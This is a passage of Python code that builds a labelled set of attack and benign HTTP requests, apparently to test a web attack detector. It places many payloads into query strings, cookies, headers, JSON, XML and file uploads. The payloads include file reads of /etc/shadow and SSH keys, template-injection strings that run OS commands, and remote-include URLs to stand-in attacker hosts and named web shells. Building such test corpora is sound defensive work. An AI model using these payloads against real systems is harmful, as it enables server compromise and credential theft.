    ("absolute", "/etc/shadow"),
    ("absolute", "/proc/self/environ"),
    ("absolute", r"C:\Windows\System32\drivers\etc\hosts"),
    ("absolute", "../../../../boot.ini"),
    ("absolute", "/proc/self/cmdline"),
    ("absolute", "~/.ssh/id_rsa"),
    ("absolute", r"\\?\C:\Windows\win.ini"),
]

SSTI: list[tuple[str, str]] = [
    ("probe", "{{7*7}}"),
    ("probe", "${7*7}"),
    ("probe", "<%= 7*7 %>"),
    ("probe", "#{7*7}"),
    ("probe", "${{<%[%'\"}}%\\."),
    ("exec", "{{config.items()}}"),
    ("exec", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("exec", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("exec", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("exec", "{% import os %}{{ os.system('id') }}"),
    ("exec", "{{lipsum.__globals__['os'].popen('id').read()}}"),
    ("exec", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("exec", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
    ("exec", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("exec", "{php}echo `id`;{/php}"),
    ("exec", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("exec", "<%= system('id') %>"),
    ("exec", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("exec", "*{T(java.lang.Runtime).getRuntime().exec('id')}"),
]

RFI: list[tuple[str, str]] = [
    ("http", "http://attacker.example/shell.txt?"),
    ("http", "https://203.0.113.9/c99.php"),
    ("http", "http://attacker.example/x.txt%00"),
    ("http", "http://attacker.example/r57.txt?&cmd=id"),
    ("http", "hTtP://attacker.example/payload.php"),
    ("http", "https://pastebin.com/raw/abcd1234?"),
    ("http", "http://203.0.113.9:8000/phpinfo.txt#"),
    ("http", "http:%2f%2fattacker.example%2fshell.txt"),
    ("http", "https://raw.githubusercontent.com/someone/shells/master/b374k.php"),
    ("http", "http://attacker.example/shell.jpg?.php"),
    ("other", "ftp://anonymous@203.0.113.9/shell.php"),
    ("other", r"\\203.0.113.9\share\shell.php"),
    ("other", "//attacker.example/inc.txt"),
    ("other", "smb://203.0.113.9/share/x.php"),
    ("other", "data:text/plain,<?php phpinfo(); ?>"),
]

FAMILIES: dict[str, list[tuple[str, str]]] = {
    "sqli": SQLI, "rce": RCE, "php": PHP, "xss": XSS, "generic": GENERIC,
    "java": JAVA, "lfi": LFI, "ssti": SSTI, "rfi": RFI,
}

# --------------------------------------------------------------------------------------------------------------
# Request parts

GET_TARGETS = ["/api/users", "/api/users/{id}", "/admin/users/search", "/me/location", "/auth/slack/login"]
POST_TARGETS = ["/api/users", "/api/users/{id}", "/admin/users/search", "/oauth/token", "/me/location",
                "/auth/slack/login"]
BOUNDARIES = ["7MA4YWxkTrZu0gW", "aB3dE5fG7hI9jK1L", "Qx2Wc4Ev6Rb8Tn0M", "zY9xW8vU7tS6rQ5p"]
ATTACK_NAMES = ["q", "search", "name", "email", "id", "sort", "filter", "redirect_uri", "next", "file", "url",
                "callback", "lang", "template", "comment", "state", "user", "return_to", "path", "code"]
ATTACK_HEADERS = ["X-Client-Context", "X-Device-Name", "X-Tenant", "X-Debug-Info", "X-Request-Source"]
PATH_SAFE = "!$&'()*+,;=:@~"                             # RFC 3986 pchar: what stays raw in a path segment
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"              # what an attacker's cookie keeps raw (no ; , space ")


def _target(targets: list[str], g: int) -> str:
    return targets[g % len(targets)].format(id=1000 + (g * 37) % 9000)


def _headers(**extra: str) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "application/json", "Accept-Language": "en-US,en;q=0.9", **extra}


def _clean(value: str) -> str:
    """A header value as a well-formed request carries it: no CR, LF, NUL or other control characters."""
    return "".join(" " if ord(c) < 32 or ord(c) == 127 else c for c in value)


def _form_base(path: str) -> list[tuple[str, str]]:
    if path == "/oauth/token":
        return [("grant_type", "client_credentials"), ("client_id", "jeeves-cli")]
    if path == "/admin/users/search":
        return [("csrf_token", "t0k3n")]
    return [("locale", "en")]


def _with(rec: dict[str, Any], **headers: str) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **headers}}


def query_value(g: int, text: str, aux: str) -> dict[str, Any]:
    return _get(_query(_target(GET_TARGETS, g), [(aux, text), ("page", str(1 + g % 5))]))


def query_name(g: int, text: str, aux: str) -> dict[str, Any]:
    uri = _target(GET_TARGETS, g) + "?" + urllib.parse.quote(text, safe="") + "=" + urllib.parse.quote(aux, safe="")
    return _get(uri + f"&page={1 + g % 5}")


def query_repeat(g: int, text: str, aux: str) -> dict[str, Any]:
    return _get(_query(_target(GET_TARGETS, g), [(aux, "recent"), (aux, text), (aux, "all"), ("limit", "20")]))


def path_segment(g: int, text: str, aux: str) -> dict[str, Any]:
    uri = "/api/users/" + urllib.parse.quote(text, safe=PATH_SAFE)
    return _get(uri + ("?fields=name,email" if g % 2 else ""))


def form_value(g: int, text: str, aux: str) -> dict[str, Any]:
    path = _target(POST_TARGETS, g)
    return _form(path, [*_form_base(path), (aux, text)])


def form_name(g: int, text: str, aux: str) -> dict[str, Any]:
    path = _target(POST_TARGETS, g)
    return _form(path, [*_form_base(path), (text, aux)])


def json_nested(g: int, text: str, aux: str) -> dict[str, Any]:
    shape = g % 3
    if shape == 0:
        doc: Any = {"user": {"name": "Ann", "profile": {aux: text, "links": ["https://example.org/ann"]}}}
    elif shape == 1:
        doc = {"items": [{"sku": "AB-1", "qty": 1}, {"sku": "CD-2", "qty": 2, "notes": ["gift", text]}]}
    else:
        doc = {"filters": [{"field": aux, "op": "eq", "value": text}], "page": {"size": 20, "number": 1}}
    return _json(_target(POST_TARGETS, g), doc)


def json_key(g: int, text: str, aux: str) -> dict[str, Any]:
    doc = {"filters": {text: aux}, "page": 1} if g % 2 else {"name": "Ann", "attributes": {"team": "ops", text: aux}}
    return _json(_target(POST_TARGETS, g), doc)


def json_numeric(g: int, text: str, aux: str) -> dict[str, Any]:
    return _json(_target(POST_TARGETS, g), {"order": {"id": text, "amount": "19.90", "qty": 2}, "currency": "EUR"})


def cookie_value(g: int, text: str, aux: str) -> dict[str, Any]:
    cookie = f"_ga=GA1.2.1849302756.1718900000; {aux}={text}; csrftoken=kD9fJ2mXo4Qz7LpV1cR8sT3uW6yB0nE5; theme=light"
    return _with(_get(_query(_target(GET_TARGETS, g), [("page", "1")])), Cookie=cookie)


def cookie_name(g: int, text: str, aux: str) -> dict[str, Any]:
    cookie = f"_ga=GA1.2.1849302756.1718900000; {text}={aux}; theme=light"
    return _with(_get(_target(GET_TARGETS, g)), Cookie=cookie)


def user_agent(g: int, text: str, aux: str) -> dict[str, Any]:
    return _with(_get(_query(_target(GET_TARGETS, g), [("page", "1")])), **{"User-Agent": _clean(text)})


def referer(g: int, text: str, aux: str) -> dict[str, Any]:
    ref = text if "://" in text[:12] else "https://jeeves.example.com/users?q=" + text
    return _with(_get(_target(GET_TARGETS, g)), Referer=_clean(ref))


def forwarded_for(g: int, text: str, aux: str) -> dict[str, Any]:
    return _with(_get(_target(GET_TARGETS, g)), **{"X-Forwarded-For": _clean(text)})


def x_header(g: int, text: str, aux: str) -> dict[str, Any]:
    return _with(_get(_query(_target(GET_TARGETS, g), [("page", "1")])), **{aux: _clean(text)})


def _multipart(g: int, parts: list[tuple[str, str, str | None, str]]) -> dict[str, Any]:
    """POST multipart/form-data: each part (field name, content, filename or None, content type or "")."""
    boundary = "----WebKitFormBoundary" + BOUNDARIES[g % len(BOUNDARIES)]
    chunks = []
    for name, content, filename, ctype in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        head = f"--{boundary}\r\nContent-Disposition: {disp}\r\n" + (f"Content-Type: {ctype}\r\n" if ctype else "")
        chunks.append(head + "\r\n" + content + "\r\n")
    body = "".join(chunks) + f"--{boundary}--\r\n"
    return {"method": "POST", "uri": _target(POST_TARGETS, g), "body": body,
            "headers": _headers(**{"Content-Type": f"multipart/form-data; boundary={boundary}"})}


def multipart_value(g: int, text: str, aux: str) -> dict[str, Any]:
    return _multipart(g, [("csrf_token", "t0k3n", None, ""), (aux, text, None, ""),
                          ("submit", "Save", None, "")])


def _browser_filename(name: str) -> str:
    """A file name as a browser writes it into Content-Disposition (quote and line breaks percent-encoded)."""
    return name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


CONTENT_TYPES = {".pdf": "application/pdf", ".png": "image/png", ".jpg": "image/jpeg", ".jpeg": "image/jpeg",
                 ".csv": "text/csv", ".txt": "text/plain", ".docx": "application/vnd.openxmlformats-officedocument."
                 "wordprocessingml.document", ".heic": "image/heic", ".zip": "application/zip"}


def multipart_filename(g: int, text: str, aux: str) -> dict[str, Any]:
    ext = "." + text.rsplit(".", 1)[-1].lower() if "." in text else ""
    ctype = CONTENT_TYPES.get(ext, "application/octet-stream")
    field = ["avatar", "attachment", "document", "file"][g % 4]
    return _multipart(g, [("description", "profile upload", None, ""),
                          (field, "sample file content for upload\n", _browser_filename(text), ctype)])


def _xml(g: int, doc: str) -> dict[str, Any]:
    return {"method": "POST", "uri": _target(POST_TARGETS, g), "body": doc,
            "headers": _headers(**{"Content-Type": "application/xml", "Accept": "application/xml"})}


XML_TEXT = [
    '<?xml version="1.0" encoding="UTF-8"?>\n<user>\n  <id>{id}</id>\n  <name>{t}</name>\n'
    '  <email>ann@example.org</email>\n</user>\n',
    '<?xml version="1.0"?>\n<search><query>{t}</query><page>1</page><size>20</size></search>\n',
    '<location xmlns="urn:jeeves:location"><label>{t}</label><lat>48.8566</lat><lon>2.3522</lon></location>',
]


def xml_text(g: int, text: str, aux: str) -> dict[str, Any]:
    inner = f"<![CDATA[{text}]]>" if g % 3 == 0 and "]]>" not in text else escape(text)
    return _xml(g, XML_TEXT[g % len(XML_TEXT)].replace("{id}", str(g)).replace("{t}", inner))


def xml_attr(g: int, text: str, aux: str) -> dict[str, Any]:
    value = escape(text, {'"': "&quot;", "\n": "&#10;", "\r": "&#13;", "\t": "&#9;"})
    doc = ('<?xml version="1.0" encoding="UTF-8"?>\n<search>\n'
           f'  <filter field="{escape(aux)}" op="contains" value="{value}"/>\n  <page size="20">1</page>\n</search>\n')
    return _xml(g, doc)


def get_body(g: int, text: str, aux: str) -> dict[str, Any]:
    if g % 2:
        body, ctype = json.dumps({"query": {aux: text}, "size": 20}, ensure_ascii=False), "application/json"
    else:
        body, ctype = urllib.parse.urlencode([(aux, text), ("page", "1")]), "application/x-www-form-urlencoded"
    return {"method": "GET", "uri": _target(GET_TARGETS, g), "body": body,
            "headers": _headers(**{"Content-Type": ctype})}


Builder = Callable[[int, str, str], dict[str, Any]]
PARTS: list[tuple[str, Builder]] = [
    ("query_value", query_value), ("query_name", query_name), ("query_repeat", query_repeat),
    ("path_segment", path_segment), ("form_value", form_value), ("form_name", form_name),
    ("json_nested", json_nested), ("json_key", json_key), ("json_numeric", json_numeric),
    ("cookie_value", cookie_value), ("cookie_name", cookie_name), ("user_agent", user_agent),
    ("referer", referer), ("x_forwarded_for", forwarded_for), ("x_header", x_header),
    ("multipart_value", multipart_value), ("multipart_filename", multipart_filename),
    ("xml_text", xml_text), ("xml_attr", xml_attr), ("get_body", get_body),
]
NAME_PARTS = {"query_name", "form_name", "json_key", "cookie_name"}
OFFSETS = (0, 7, 14)   # a payload's three parts: g, g+7, g+14 of PARTS (all different; every part equally often)


def _attack_text(part: str, payload: str, g: int) -> str:
    """The payload as an attacker puts it into that part."""
    if part == "cookie_value":
        return urllib.parse.quote(payload, safe=COOKIE_SAFE)
    if part == "cookie_name":
        return urllib.parse.quote(payload, safe="")
    if part == "json_numeric" and payload[:1] in tuple("'\";|&)`"):
        return str(7 + g % 90) + payload                  # the id the payload breaks out of
    if part == "x_forwarded_for" and g % 2 == 0:
        return payload + f", 10.20.{g % 250}.5"           # our load balancer appended its hop
    return payload


def _attack_aux(part: str, i: int) -> str:
    if part == "x_header":
        return ATTACK_HEADERS[i % len(ATTACK_HEADERS)]
    if part in NAME_PARTS:
        return ["1", "true", "asc", "en"][i % 4]
    return ATTACK_NAMES[i % len(ATTACK_NAMES)]


def attacks() -> Iterator[dict[str, Any]]:
    """Every payload in three parts (rotating through the twenty), ids b14-<family>-NNNN."""
    g = 0
    n = 0
    for family, payloads in FAMILIES.items():
        for sub, payload in payloads:
            for off in OFFSETS:
                idx = (g + off) % len(PARTS)
                part, build = PARTS[idx]
                n += 1
                # the builder's counter advances once per pass through PARTS, so each part visits every target
                rec = build(idx + (g + off) // len(PARTS), _attack_text(part, payload, g), _attack_aux(part, g + off))
                yield {**rec, "id": f"b14-{family}-{n:04d}", "category": family,
                       "sub": sub if family == "generic" else f"{family}-{sub}", "placement": part,
                       "payload": payload}
            g += 1


# --------------------------------------------------------------------------------------------------------------
# Benign: per part, (aux, text) pairs. aux is the parameter / field / cookie / header name for value parts, the
# companion value for name parts, unused ("") for the headers that have a fixed name.

BENIGN: dict[str, list[tuple[str, str]]] = {
    "query_value": [
        ("q", "O'Brien"), ("name", "Zoë D'Angelo"), ("email", "mary-jane.o'neil+news@example.co.uk"),
        ("q", "coffee & tea shops near me"), ("search", "C++ or C# developer"), ("q", "50% off winter jackets"),
        ("q", '"exact phrase" -excluded'), ("title", "Q3 report (final, v2)"),
        ("q", "what's the best way to learn SQL?"), ("city", "Saint-Étienne"), ("q", "rock 'n' roll"),
        ("note", "meet @ 5pm; bring laptop"), ("q", "1/2 cup sugar + 2 eggs"), ("sort", "-created_at,name"),
        ("q", "select committee meeting minutes"), ("redirect_uri", "https://app.example.com/callback?state=xyz"),
        ("tz", "America/Argentina/Buenos_Aires"), ("q", "日本語のテスト"),
    ],
    "query_name": [
        ("active", "filter[status]"), ("name,email", "fields[users]"), ("25", "page[size]"),
        ("created_at", "sort_by"), ("newsletter", "utm_source"), ("design", "tags[]"),
        ("2024-06-01", "created_at[gte]"), ("Ann", "user.name"), ("team,manager", "include"),
        ("startswith(name,'A')", "$filter"), ("1718960000123", "_"),
        ("IwAR2xYz9-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "fbclid"), ("en", "hl"),
        ("Cj0KCQjw-ai0BhBPARIsAPvS", "gclid"), ("42", "ids[0]"), ("smith", "q[name_cont]"),
        ("20240621T101500Z", "X-Amz-Date"), ("spring-sale", "utm_campaign"),
    ],
    "query_repeat": [
        ("tag", "o'reilly"), ("ids", "1042"), ("scope", "users:read"), ("tag", "c++"), ("color", "navy blue"),
        ("lang", "pt-BR"), ("sort", "-updated_at"), ("status", "in progress"), ("tag", "rock & roll"),
        ("team", "R&D"), ("region", "eu-west-1"), ("category", "books/comics"), ("size", "10\""),
        ("author", "Ngũgĩ wa Thiong'o"), ("skill", "node.js"), ("type", "full-time"), ("q", "new york"),
        ("fields", "name,email,avatar_url"),
    ],
    "path_segment": [
        ("", "42"), ("", "U012ABCDEF"), ("", "me"), ("", "ann.o'neil"), ("", "josé.garcía"),
        ("", "3f2b8c1e-9d4a-4e6b-a7c2-1b5e9f0d8a11"), ("", "john.doe@example.com"), ("", "mary jane"),
        ("", "O'Connor, Liam"), ("", "user_12345"), ("", "Ünal"), ("", "ann+work@example.com"),
        ("", "2024-06-21"), ("", "@ann"), ("", "li.na (contractor)"), ("", "W0123ABCD"), ("", "00042"),
        ("", "李娜"),
    ],
    "form_value": [
        ("comment", "Great work on the release! Let's ship it tomorrow :)"),
        ("address", "12 Rue de l'Église, 75001 Paris"), ("bio", "Backend dev. I like Go, Rust & coffee."),
        ("name", "D'Arcy O'Neil-Smith"),
        ("message", 'Hi, I can\'t log in since yesterday - the page says "session expired".'),
        ("phone", "+1 (555) 010-2234"), ("company", "Smith & Sons, Ltd."),
        ("website", "https://example.org/about?ref=profile&lang=en"), ("password", "Tr0ub4dor&3!"),
        ("notes", "Dosage: 2x daily; max 4/day"), ("title", "Re: Fwd: [URGENT] Q2 numbers"),
        ("q", "how to select all rows in excel"), ("redirect", "/me/location?tab=history"),
        ("description", 'Size: 10" x 12", weight < 2 kg'), ("signature", "-- \nAnn\nSent from my phone"),
        ("status", "🎉 launch day 🚀"), ("username", "o'hara_1984"), ("feedback", "5/5 would order again!!!"),
    ],
    "form_name": [
        ("ann@example.org", "user[email]"), ("12 Main St", "address[line1]"), ("2", "items[0][qty]"),
        ("03AFcWeA6x9b8c7d6e5f4g3h2i1j0", "g-recaptcha-response"), ("PATCH", "_method"),
        ("8f1c2e4a1b2c4d5e9f00123456789abc", "authenticity_token"), ("0.Ab1Cd2", "cf-turnstile-response"),
        ("75001", "billing.postal_code"), ("yes", "answers[q3][]"), ("\u2713", "utf8"), ("Update profile", "commit"),
        ("on", "remember-me"), ("Ann", "contact.first_name"), ("1", "terms_accepted"),
        ("en-GB", "preferences[locale]"), ("Europe/Paris", "user_timezone"), ("2", "guests[adults]"),
        ("blue", "options[color]"),
    ],
    "json_nested": [
        ("bio", "Ann O'Neil - SRE at Acme, she/her"), ("city", "Saint-Jean-sur-Richelieu"),
        ("note", "Leave the parcel with the neighbour (No. 14)"), ("display_name", "Zoë 🌿"),
        ("title", "Lead engineer, platform & tooling"), ("company", "Ben & Jerry's"),
        ("comment", "Looks good to me, merging after CI passes."), ("status", "out of office until 3/7"),
        ("name", "José María Núñez"), ("email", "first.last+tag@sub.example.co.uk"),
        ("address", "Flat 3, 27 O'Connell St, Dublin 1"), ("pronouns", "they/them"),
        ("headline", "Building things with Python, Go & SQL"), ("quote", '"Stay hungry, stay foolish."'),
        ("skills", "C#, .NET, Azure"), ("emoji", "👍"), ("language", "español (México)"),
        ("website", "https://ann.example.dev/?utm_source=slack&utm_medium=profile"),
    ],
    "json_key": [
        ("Ann", "display_name"), ("Bonjour", "fr-FR"), ("https://schema.org", "@context"),
        ("https://json-schema.org/draft/2020-12/schema", "$schema"), ("8f1c2e4a", "x-request-id"),
        ("ann@example.org", "user.email"), ("User", "__typename"), ("2024-06-21", "créé_le"),
        ("Ann", "12345"), ("summer-sale", "utm_campaign"), ("Paris", "billing address"), ("true", "isActive"),
        ("665f1c2e4a1b2c4d5e9f0012", "_id"), ("Person", "@type"), ("#/definitions/user", "$ref"),
        ("red", "Farbe"), ("30", "timeout (s)"), ("v2", "api-version"),
    ],
    "json_numeric": [
        ("", "00123"), ("", "1e10"), ("", "-0.5"), ("", "1,234.56"), ("", "12.50"), ("", "+1 555 010 9999"),
        ("", "007"), ("", "3.14159"), ("", "2024"), ("", "0x1F"), ("", "1_000_000"), ("", "NaN"), ("", "99.9%"),
        ("", "5/5"), ("", "10-20"), ("", "4 111 111 111 111 111"), ("", "1.0.3"), ("", "€12,99"),
    ],
    "cookie_value": [
        ("_gid", "GA1.2.402918374.1718999999"), ("_fbp", "fb.1.1718900000123.1234567890"),
        ("OptanonConsent", "isGpcEnabled=0&datestamp=Fri+Jun+21+2024+10%3A15%3A00+GMT%2B0200+(Central+European"
                           "+Summer+Time)&version=202403.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId="
                           "8f1c2e4a-1b2c-4d5e-9f00-123456789abc&interactionCount=1&landingPath=NotLandingPage&groups"
                           "=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0"),
        ("CookieConsent", "{stamp:%27a1B2c3D4e5F6g7H8i9J0kLmNoPqRsT==%27%2Cnecessary:true%2Cpreferences:true"
                          "%2Cstatistics:false%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1%2Cutc:"
                          "1718960000000%2Cregion:%27de%27}"),
        ("XSRF-TOKEN", "eyJpdiI6IkR2Z0ZrT3BVa2h4d2R6UT09IiwidmFsdWUiOiJxN3JUeVZ6a0x3PT0iLCJtYWMiOiI0ZTZmIn0%3D"),
        ("ajs_anonymous_id", "%2231b1b3c4-5d6e-4f70-8a91-b2c3d4e5f601%22"),
        ("_hjSessionUser_3456789", "eyJpZCI6IjEyMzQ1Njc4LTkwYWItNGNkZS1mMDEyLTM0NTY3ODkwYWJjZCIsImNyZWF0ZWQiOjE3"
                                   "MTg5MDAwMDAwMDAsImV4aXN0aW5nIjp0cnVlfQ=="),
        ("_gcl_au", "1.1.1234567890.1718900000"),
        ("intercom-session-abc123", "aGVsbG8gd29ybGQ=--7f3e1c2d4b5a69788796a5b4c3d2e1f0a9b8c7d6"),
        ("__stripe_mid", "5a7c3b2e-1f0d-4e9c-8b7a-6c5d4e3f2a1b0c9d8e"),
        ("euconsent-v2", "CP9xYZAP9xYZAAcABBENA1EsAP_gAEPgAAqIg1NX_H__bW9r8Xr3aft0eY1P99j77sQxBhfJE-4FzLvW_"
                         "JwXx2ExNA36tqIKmRIEu3bBIQNlHJDUTVCgaogVryDMakWcoTNKJ6BkiFMRM2dYCF5vmQtj-QKY5vr993dx"),
        ("session", "eyJ1c2VyX2lkIjo0Mn0.ZnVsbA.Xk3v9Qm2PcLr7WsYt1Hb0NfJa8E"), ("locale", "fr-CA"),
        ("cart", "%5B%7B%22sku%22%3A%22AB-123%22%2C%22qty%22%3A2%7D%5D"),
        ("_session_id", "a3f5c7e9b1d2046813579bdf02468ace"),
        ("AWSALB", "x9y8Z7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2H1g0F9e8D7c6B5a4/3z2y1x0w9v8u7t6+s5r4q3p2o1n0m9l8k7j6"),
        ("last_search", "O%27Reilly%20books"), ("_pk_id.1.1fff", "3c4d5e6f7a8b9c0d.1718900000."),
    ],
    "cookie_name": [
        ("GA1.1.1234567890.1718900000", "_ga_ABCDEF1234"), ("1", "_hjSession_3456789"),
        ("1718960000", "wp-settings-time-1"), ("MCMID%7C12345678901234567890", "AMCV_1234567890ABCDEF%40AdobeOrg"),
        ("eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..abc.def.ghi", "__Secure-next-auth.session-token"),
        ("c2VjcmV0LXRva2Vu", "__Host-csrf"), ("true", "_hjFirstSeen"), ("yes", "cookielawinfo-checkbox-necessary"),
        ("yes", "viewed_cookie_policy"), ("1", "intercom-device-id-abc123"),
        ("%7B%22distinct_id%22%3A%2242%22%7D", "mp_0123456789abcdef0123456789abcdef_mixpanel"),
        ("%7B%22distinct_id%22%3A%2242%22%7D", "ph_phc_AbCdEf123_posthog"), ("en", "i18next"),
        ("true", "sidebar_state"), ("granted", "consent.analytics"), ("B", "ab-test.checkout"),
        ("1", "__utmz"), ("dismissed", "banner-2024-06"),
    ],
    "user_agent": [
        ("", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
             "Safari/537.36"),
        ("", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
             "Version/17.5 Safari/605.1.15"),
        ("", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
             "Version/17.5 Mobile/15E148 Safari/604.1"),
        ("", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/126.0.6478.71 Mobile Safari/537.36"),
        ("", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
             "Safari/537.36 Edg/126.0.2592.68"),
        ("", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
        ("", "curl/8.5.0"), ("", "python-requests/2.32.3"), ("", "okhttp/4.12.0"), ("", "axios/1.7.2"),
        ("", "PostmanRuntime/7.39.0"), ("", "Go-http-client/2.0"),
        ("", "aws-sdk-js/3.600.0 ua/2.0 os/linux#5.15.0 lang/js md/nodejs#20.14.0 api/s3#3.600.0"),
        ("", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)"),
        ("", "Jeeves/3.2.1 (iPhone; iOS 17.5.1; Scale/3.00)"),
        ("", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        ("", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
        ("", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko"),
    ],
    "referer": [
        ("", "https://www.google.com/search?q=o%27reilly+jeeves+login&sca_esv=3f2b8c1e9d4a&source=hp&ei=AbCdEf"
             "GhIjKl&iflsig=AL9hbdgAAAAAZnVsbA&ved=0ahUKEwj&uact=5&oq=o%27reilly+jeeves&gs_lp=Egdnd3Mtd2l6"),
        ("", "https://app.slack.com/client/T061EG9R6/C0123456789/thread/C0123456789-1719000000.000100"),
        ("", "https://l.facebook.com/l.php?u=https%3A%2F%2Fjeeves.example.com%2F%3Ffbclid%3DIwAR2xYz&h=AT0a1b2c3d"
             "4e5f6g7h8i9j0&__tn__=-UK-R&c[0]=AT1xYz"),
        ("", "https://www.linkedin.com/"),
        ("", "https://jeeves.example.com/admin/users/search?q=O%27Brien&sort=-created_at&page=3&per_page=50"
             "&filter%5Bstatus%5D=active&filter%5Brole%5D=admin"),
        ("", "https://mail.google.com/mail/u/0/#inbox/FMfcgzQVxRtWnKpBbJkQmZcXwLdLhGpS"),
        ("", "https://t.co/AbCdEf1234"),
        ("", "https://www.bing.com/search?q=jeeves+slack+bot+%22location%22+settings&form=QBLH&sp=-1&pq=jeeves"
             "+slack+bot&sc=10-18&qs=n&sk=&cvid=3F2B8C1E9D4A4E6BA7C21B5E9F0D8A11"),
        ("", "https://jeeves.example.com/me/location?tab=history&from=2024-06-01&to=2024-06-21&tz=Europe%2FParis"),
        ("", "https://duckduckgo.com/"),
        ("", "https://news.ycombinator.com/item?id=40751234"),
        ("", "https://github.com/acme/jeeves/pull/1234/files#diff-3f2b8c1e9d4a4e6ba7c21b5e9f0d8a11R42"),
        ("", "https://jeeves.example.com/auth/slack/login?next=%2Fme%2Flocation%3Ftab%3Dmap&utm_source=slack"
             "&utm_medium=bot&utm_campaign=onboarding-2024"),
        ("", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PL1234567890&index=3&t=42s"),
        ("", "https://accounts.google.com/"),
        ("", "android-app://com.slack/"),
        ("", "https://teams.microsoft.com/"),
        ("", "https://search.yahoo.com/search?p=what%27s+my+location+app&fr=yfp-t&fp=1&toggle=1&cop=mss&ei=UTF-8"),
    ],
    "x_forwarded_for": [
        ("", "203.0.113.7"), ("", "198.51.100.23, 10.0.0.2"), ("", "2001:db8::1, 172.16.0.5"),
        ("", "unknown, 10.1.2.3"), ("", "192.0.2.44, 198.51.100.1, 10.20.30.40"), ("", "100.64.12.9"),
        ("", "203.0.113.250, 203.0.113.1"), ("", "2001:db8:85a3::8a2e:370:7334"),
        ("", "198.51.100.77, 2001:db8::2"), ("", "10.0.0.1"), ("", "192.0.2.1,10.0.0.2"),
        ("", "203.0.113.9:51234"), ("", "[2001:db8::5]:443, 10.0.0.3"),
        ("", "198.51.100.14, 198.51.100.15, 198.51.100.16, 10.0.0.4"), ("", "172.20.3.14"),
        ("", "192.168.1.23, 203.0.113.66"), ("", "203.0.113.101 , 10.0.0.5"), ("", "127.0.0.1"),
    ],
    "x_header": [
        ("X-Request-ID", "3f2b8c1e-9d4a-4e6b-a7c2-1b5e9f0d8a11"), ("X-Correlation-ID", "req_01J0ZK9X8Y7W6V5U4T3S2R"),
        ("X-Client-Version", "3.2.1 (450)"), ("X-Timezone", "America/Los_Angeles"),
        ("X-Device-Model", "iPhone15,2"),
        ("X-Amzn-Trace-Id", "Root=1-667541a0-0a1b2c3d4e5f6a7b8c9d0e1f;Parent=53995c3f42cd8ad8;Sampled=1"),
        ("X-Datadog-Trace-Id", "1234567890123456789"), ("X-Requested-With", "XMLHttpRequest"),
        ("X-CSRF-Token", "Fj3kL9mN2pQ5rS8tV1wX4yZ7aB0cD3eF6gH9iJ2kL5m="), ("X-Forwarded-Proto", "https"),
        ("X-App-Locale", "pt-BR"), ("X-Client-Name", "Jeeves iOS"),
        ("X-Feature-Flags", "new-search=on; dark-mode=off"),
        ("X-Idempotency-Key", "b7e1c2d3-4f5a-6b7c-8d9e-0f1a2b3c4d5e"),
        ("X-GitHub-Event", "pull_request"),
        ("X-Hub-Signature-256", "sha256=3f2b8c1e9d4a4e6ba7c21b5e9f0d8a113f2b8c1e9d4a4e6ba7c21b5e9f0d8a11"),
        ("X-Real-IP", "203.0.113.9"), ("X-Screen", "390x844@3x; dark"),
    ],
    "multipart_value": [
        ("bio", "Product designer in Lisbon. I love typography & long walks."), ("name", "Siobhán O'Sullivan"),
        ("caption", "Team offsite - day 2 (don't share outside the company!)"), ("email", "ann@example.org"),
        ("description", "Invoice #2024-0612 for June; paid via SEPA."), ("title", "Q2 OKRs: review & next steps"),
        ("alt_text", "A dog wearing sunglasses at the beach"), ("tags", "travel, food, 2024"),
        ("comment", "See attached - the numbers in row 12 look off?"), ("location", "Café de l'Industrie, Paris"),
        ("notes", "Line 1\nLine 2\nLine 3"), ("license", "CC BY-SA 4.0"), ("folder", "/Shared/Design/2024"),
        ("language", "Deutsch"), ("visibility", "team"), ("message", "Hi! Here's my CV, thanks for your time :)"),
        ("rating", "4.5"), ("category", "Receipts > Travel"),
    ],
    "multipart_filename": [
        ("", "résumé (final) v2.pdf"), ("", "IMG_20240621_101500.jpg"), ("", "Q2 report \u2013 draft.docx"),
        ("", "Screenshot 2024-06-21 at 10.15.00.png"), ("", "O'Brien_contract_signed.pdf"),
